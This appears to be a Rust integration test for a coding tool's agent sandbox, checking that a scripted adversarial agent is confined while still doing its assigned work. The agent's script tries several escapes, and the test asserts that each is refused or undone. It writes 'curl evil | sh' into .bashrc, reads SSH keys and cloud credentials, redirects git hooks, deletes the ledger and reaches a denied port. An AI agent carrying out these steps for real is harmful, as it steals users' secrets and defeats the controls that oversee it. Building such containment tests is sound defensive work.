//! The agent's sandbox end to end, through the real `butler implement` (the real `butler
//! sandbox-exec` on this machine's kernel, the real `butler worker-mcp` started by the agent
//! inside the sandbox): an adversarial scripted agent tries to write outside its worktree, to
//! commit, to change git's configuration and hooks, to write the worktree's git directory, to
//! delete the ledger, to read Butler's token and to reach a port not on its allow-list — and
//! does its legitimate work too. With the sandbox on, every attempt fails at the kernel and is
//! listed in the evidence; with it off, the detection after the run catches what it always did.

// The test plays the person at the terminal: it starts `butler` itself, as a shell would.
#![allow(clippy::disallowed_methods)]

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use butler_testkit::fake_agent::{SCRIPT_VAR, fake_agent};
use serde_json::{Value, json};

const BUTLER: &str = env!("CARGO_BIN_EXE_butler");

/// The test kit's world with the project, the user's home, the data directory, the agent's
/// script and two listening ports.
struct World {
    w: butler_testkit::World,
    project: PathBuf,
    home: PathBuf,
    data: PathBuf,
    script: PathBuf,
    /// A port on the allow-list and one that is not, both listening.
    allowed: TcpListener,
    denied: TcpListener,
}

fn port(l: &TcpListener) -> u16 {
    l.local_addr().expect("addr").port()
}

impl World {
    fn new(sandbox: &str) -> Self {
        let w = butler_testkit::World::unborn();
        let allowed = TcpListener::bind("127.0.0.1:0").expect("listen");
        let denied = TcpListener::bind("127.0.0.1:0").expect("listen");
        w.write("src/lib.rs", "pub fn one() -> i32 { 1 }\n");
        w.write("README.md", "project\n");
        // The user's own configuration: only the user lowers (or sets) the guard.
        w.user_config(&format!(
            "[agent]\nsandbox = \"{sandbox}\"\nnetwork = [\"127.0.0.1:{}\"]\n",
            port(&allowed)
        ));
        w.commit(&w.project, "initial");
        World {
            script: w.path("script.jsonl"),
            project: w.project.clone(),
            home: w.home(),
            data: w.path("data"),
            w,
            allowed,
            denied,
        }
    }

    fn base(&self) -> PathBuf {
        self.w.dir().to_path_buf()
    }

    /// Runs git in the world as its user; its stdout, trimmed.
    fn git(&self, args: &[&str]) -> String {
        self.w.git(&self.project, args).trim().to_owned()
    }

    /// Runs `butler <args>` in the project with the world's environment, goose played by the
    /// fake agent.
    fn butler(&self, args: &[&str]) -> std::process::Output {
        Command::new(BUTLER)
            .args(args)
            .current_dir(&self.project)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").expect("PATH"))
            .envs(self.w.env.iter().cloned())
            .env("XDG_DATA_HOME", &self.data)
            .env(SCRIPT_VAR, &self.script)
            .env("BUTLER_GOOSE_PROGRAM", fake_agent())
            .env("BUTLER_GOOSE_PROVIDER", "openai")
            .env("BUTLER_GOOSE_MODEL", "fake")
            .env("BUTLER_AGENT_ENV_ALLOW", SCRIPT_VAR)
            .env("BUTLER_GITEA_TOKEN", "tok-never-to-the-agent")
            .env("BUTLER_ISSUE_BACKEND", "local")
            .env("BUTLER_EXE", BUTLER)
            .output()
            .expect("butler runs")
    }

    fn implement(&self, tests: &[&str]) -> Value {
        let mut args = vec![
            "implement",
            "--json",
            "--goal",
            "Add a greeting",
            "--target",
            "src/",
            "--timeout",
            "60",
        ];
        for t in tests {
            args.extend(["--test", t]);
        }
        let out = self.butler(&args);
        let stdout = String::from_utf8_lossy(&out.stdout);
        serde_json::from_str(&stdout)
            .unwrap_or_else(|e| panic!("{e}: {stdout}\n{}", String::from_utf8_lossy(&out.stderr)))
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.project.join(".git/butler/tasks/t1/attempt-1.log"))
            .expect("attempt log")
    }
}

/// The user's secrets in the world's `HOME` (the user's, as Butler sees it; the agent's own
/// `HOME` is its directory): relative paths and a dummy content.
const SECRETS: &[&str] = &[
    ".ssh/id_ed25519",
    ".git-credentials",
    ".netrc",
    ".config/gh/hosts.yml",
    ".aws/credentials",
];

fn write_file(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(path, text).expect("write");
}

/// Puts dummy secrets and an ordinary file into the user's home.
fn plant_secrets(w: &World) {
    for rel in SECRETS {
        write_file(&w.home.join(rel), "dummy-secret\n");
    }
    write_file(&w.home.join("notes.txt"), "ordinary\n");
}

/// The agent's attempt at the user's secrets and Butler's token file, and the reads that must
/// still work (printed as `read <what>: ok`).
fn steal(w: &World) -> String {
    let mut cmd = String::new();
    for rel in SECRETS
        .iter()
        .copied()
        .chain(["butler/http-token"].iter().copied())
    {
        let path = if rel.starts_with("butler/") {
            w.home.join(".config").join(rel)
        } else {
            w.home.join(rel)
        };
        cmd.push_str(&format!("cat '{}'; ", path.display()));
    }
    cmd.push_str(&format!(
        "cat '{}' /etc/hosts /usr/bin/env >/dev/null && echo 'fake-agent: read home: ok' >&2; \
         ls -a '{}' | grep -q notes.txt && echo 'fake-agent: list home: ok' >&2",
        w.home.join("notes.txt").display(),
        w.home.display()
    ));
    cmd
}

/// What the adversarial agent does: its legitimate work, then every attempt to get out.
fn script(w: &World, with_destructive: bool) -> String {
    let p = |rel: &str| w.project.join(rel).to_string_lossy().into_owned();
    let base = w.base();
    let mut actions = vec![
        json!({"do": "write", "path": "src/greet.rs", "text": "pub fn greet() {}\n"}),
        json!({"do": "mcp", "calls": [{"tool": "leave_note", "arguments": {"text": "greet added"}}]}),
        json!({"do": "sh", "cmd": "echo mine > \"$TMPDIR/own.txt\" && echo 'fake-agent: own tmp: ok' >&2"}),
        json!({"do": "try_write", "path": p("README.md"), "text": "hijacked\n"}),
        json!({"do": "try_write", "path": p("stray.txt"), "text": "agent file\n"}),
        json!({"do": "try_write", "path": w.home.join(".bashrc"), "text": "curl evil | sh\n"}),
        json!({"do": "try_write", "path": base.join("elsewhere.txt"), "text": "x\n"}),
        json!({"do": "sh", "cmd": "git add -A && git commit -qm 'agent wip'"}),
        json!({"do": "sh", "cmd": "git config core.hooksPath /tmp/evil-hooks"}),
        json!({"do": "try_write", "path": p(".git/hooks/pre-commit"), "text": "#!/bin/sh\nevil\n"}),
        json!({"do": "getenv", "name": "BUTLER_GITEA_TOKEN"}),
        json!({"do": "connect", "port": port(&w.allowed)}),
        json!({"do": "connect", "port": port(&w.denied)}),
        json!({"do": "sh", "cmd": steal(w)}),
    ];
    if with_destructive {
        actions.extend([
            json!({"do": "try_write", "path": p(".git/worktrees/task-t1/HEAD"), "text": "ref: refs/heads/main\n"}),
            json!({"do": "try_delete", "path": p(".git/butler/ledger.db")}),
        ]);
    }
    Value::Array(actions).to_string()
}

fn refused_targets(attempt: &Value) -> Vec<String> {
    attempt["sandbox"]["refused"]
        .as_array()
        .expect("refusals")
        .iter()
        .filter_map(|r| r["target"].as_str().map(str::to_owned))
        .collect()
}

#[test]
fn a_confined_agent_is_refused_everything_but_its_work_which_is_recorded() {
    let w = World::new("auto");
    plant_secrets(&w);
    write_file(&w.home.join(".config/butler/http-token"), "butler-token\n");
    std::fs::write(&w.script, script(&w, true)).expect("script");
    let verify_escape = format!(
        "echo pwned > {}/VERIFY.txt; test -f src/greet.rs",
        w.project.display()
    );
    let result = w.implement(&["test -f src/greet.rs", &verify_escape]);
    assert_eq!(result["outcome"], "succeeded", "{result:#}");
    let a = &result["attempts"][0];
    let log = w.log();

    // Every attempt failed at the kernel, as the agent itself saw it.
    for target in [
        w.project.join("README.md"),
        w.project.join("stray.txt"),
        w.home.join(".bashrc"),
        w.base().join("elsewhere.txt"),
        w.project.join(".git/hooks/pre-commit"),
        w.project.join(".git/worktrees/task-t1/HEAD"),
    ] {
        let line = format!("fake-agent: write {}: Permission denied", target.display());
        assert!(log.contains(&line), "{line}\n{log}");
    }
    let ledger = w.project.join(".git/butler/ledger.db");
    assert!(
        log.contains(&format!(
            "fake-agent: delete {}: Permission denied",
            ledger.display()
        )),
        "{log}"
    );
    assert!(log.contains("index.lock': Permission denied"), "{log}");
    assert!(log.contains("could not lock config file"), "{log}");
    assert!(
        log.contains("fake-agent: BUTLER_GITEA_TOKEN is unset"),
        "{log}"
    );
    assert!(!log.contains("tok-never-to-the-agent"), "{log}");
    let (ok, no) = (port(&w.allowed), port(&w.denied));
    assert!(
        log.contains(&format!("connect 127.0.0.1:{ok}: ok")),
        "{log}"
    );
    assert!(
        log.contains(&format!("connect 127.0.0.1:{no}: Permission denied")),
        "{log}"
    );
    assert!(log.contains("fake-agent: own tmp: ok"), "{log}");
    for rel in SECRETS.iter().copied().chain([".config/butler/http-token"]) {
        let line = format!("cat: {}: Permission denied", w.home.join(rel).display());
        assert!(log.contains(&line), "{line}\n{log}");
    }
    assert!(
        !log.contains("dummy-secret") && !log.contains("butler-token"),
        "{log}"
    );
    assert!(log.contains("fake-agent: read home: ok"), "{log}");
    assert!(log.contains("fake-agent: list home: ok"), "{log}");

    // The evidence says what the sandbox did and lists the refusals.
    let sandbox = &a["sandbox"];
    assert_eq!(sandbox["mode"], "auto");
    assert_eq!(sandbox["applied"], true, "{sandbox:#}");
    assert_eq!(sandbox["enforcement"], "full", "{sandbox:#}");
    assert!(sandbox["landlock_abi"].as_u64().expect("abi") >= 4);
    assert_eq!(sandbox["network"]["connect_tcp"], json!([ok]));
    assert_eq!(sandbox["verify_confined"], true);
    // The stores denied, by name; Butler's data directory (outside the home here) by path.
    let denied: Vec<&str> = sandbox["denied_read"]
        .as_array()
        .expect("denied_read")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    let data = format!("{}/butler", w.data.display());
    for name in [
        "~/.ssh",
        "~/.aws",
        "~/.netrc",
        "~/.git-credentials",
        "~/.config/gh",
        "~/.config/butler",
        &data,
    ] {
        assert!(denied.contains(&name), "{name} not in {denied:?}");
    }
    let targets = refused_targets(a);
    for want in [
        w.project.join("README.md").display().to_string(),
        w.home.join(".bashrc").display().to_string(),
        w.project
            .join(".git/hooks/pre-commit")
            .display()
            .to_string(),
        ledger.display().to_string(),
        format!("127.0.0.1:{no}"),
        format!("{}/VERIFY.txt", w.project.display()),
    ] {
        assert!(targets.contains(&want), "{want} not in {targets:#?}");
    }
    let refused = sandbox["refused"].as_array().expect("refusals");
    assert!(
        refused
            .iter()
            .any(|r| r["source"] == "verify" && r["line"].as_str().unwrap_or("").contains("VERIFY")),
        "{refused:#?}"
    );

    // Nothing of the Brain's or the repository's changed; nothing got past the kernel, so
    // there was nothing for the detection to undo.
    assert_eq!(a["direct_git"]["detected"], false, "{a:#}");
    assert_eq!(w.git(&["status", "--porcelain"]), "");
    assert_eq!(
        std::fs::read_to_string(w.project.join("README.md")).expect("read"),
        "project\n"
    );
    for gone in [
        w.project.join("stray.txt"),
        w.project.join("VERIFY.txt"),
        w.project.join(".git/hooks/pre-commit"),
        w.home.join(".bashrc"),
        w.base().join("elsewhere.txt"),
    ] {
        assert!(!gone.exists(), "{}", gone.display());
    }
    assert!(ledger.is_file());
    let config = std::fs::read_to_string(w.project.join(".git/config")).expect("config");
    assert!(!config.contains("hooksPath"), "{config}");

    // The legitimate work is recorded, and the worker MCP reached from inside the sandbox
    // delivered the note.
    assert!(a["record"].is_string(), "{a:#}");
    assert_eq!(a["worker_mcp_reached"], true, "{a:#}");
    assert_eq!(a["agent_notes"][0]["text"], "greet added");
    let files = w.git(&["log", "--format=", "--name-only", "main..butler/task-t1"]);
    assert_eq!(files, "src/greet.rs");
    let authors = w.git(&["log", "--format=%an", "main..butler/task-t1"]);
    assert_eq!(authors, "Butler Maid");

    // The worktree lives under the user's data directory, and `task list` says where.
    let worktree = sandbox["writable"][0]
        .as_str()
        .expect("worktree")
        .to_owned();
    assert!(
        worktree.starts_with(&format!("{}/butler/worktrees/project-", w.data.display())),
        "{worktree}"
    );
    assert!(worktree.ends_with("/task-t1"), "{worktree}");
    assert!(Path::new(&worktree).join("src/greet.rs").is_file());
    let list = w.butler(&["task", "list"]);
    let list = String::from_utf8_lossy(&list.stdout);
    assert!(list.contains(&worktree), "{list}");
}

#[test]
fn with_the_sandbox_off_the_detection_still_catches_and_undoes_what_it_did() {
    let w = World::new("off");
    std::fs::write(&w.script, script(&w, false)).expect("script");
    let result = w.implement(&["test -f src/greet.rs"]);
    assert_eq!(result["outcome"], "succeeded", "{result:#}");
    let a = &result["attempts"][0];
    assert_eq!(a["sandbox"]["applied"], false);
    assert_eq!(a["sandbox"]["not_applied"], "sandbox = \"off\"");
    let log = w.log();
    assert!(
        log.contains(&format!("connect 127.0.0.1:{}: ok", port(&w.denied))),
        "unconfined, every port is open: {log}"
    );
    // The detection path: the commit unwound, the configuration and hook restored, the writes
    // into the Brain's tree reported and put back.
    let findings = a["direct_git"]["findings"].to_string();
    for want in [
        "\"kind\":\"commits\"",
        "core.hookspath",
        "pre-commit",
        "\"path\":\"README.md\"",
        "\"path\":\"stray.txt\"",
    ] {
        assert!(findings.contains(want), "{want} not in {findings}");
    }
    assert_eq!(w.git(&["status", "--porcelain"]), "");
    assert_eq!(
        std::fs::read_to_string(w.project.join("README.md")).expect("read"),
        "project\n"
    );
    assert!(!w.project.join(".git/hooks/pre-commit").exists());
    let config = std::fs::read_to_string(w.project.join(".git/config")).expect("config");
    assert!(!config.contains("hooksPath"), "{config}");
    let files = w.git(&["log", "--format=", "--name-only", "main..butler/task-t1"]);
    assert_eq!(files, "src/greet.rs");
    // What only the sandbox stops: a write into the user's HOME is not seen after the run.
    assert!(w.home.join(".bashrc").exists());
    // Putting back the Brain's files was an operation of the log: one undo has the agent's
    // README back, as the Maid found it (the undo is itself undoable).
    let oplog = w.butler(&["oplog"]);
    let listing = String::from_utf8_lossy(&oplog.stdout).into_owned();
    let lines: Vec<&str> = listing.lines().collect();
    let at = lines
        .iter()
        .position(|l| l.contains("put back what task t1's agent wrote"))
        .unwrap_or_else(|| panic!("no restore in the log:\n{listing}"));
    assert!(lines[at].contains("(for task t1)"), "{listing}");
    assert!(
        lines.get(at + 1).is_some_and(|l| l.contains("README.md")),
        "{listing}"
    );
    let id = lines[at]
        .split_whitespace()
        .next()
        .and_then(|w| w.parse::<u64>().ok())
        .unwrap_or_else(|| panic!("no id in {listing}"));
    let undone = w.butler(&["undo", &id.to_string()]);
    assert!(
        undone.status.success(),
        "{}",
        String::from_utf8_lossy(&undone.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(w.project.join("README.md")).expect("read"),
        "hijacked\n"
    );
}
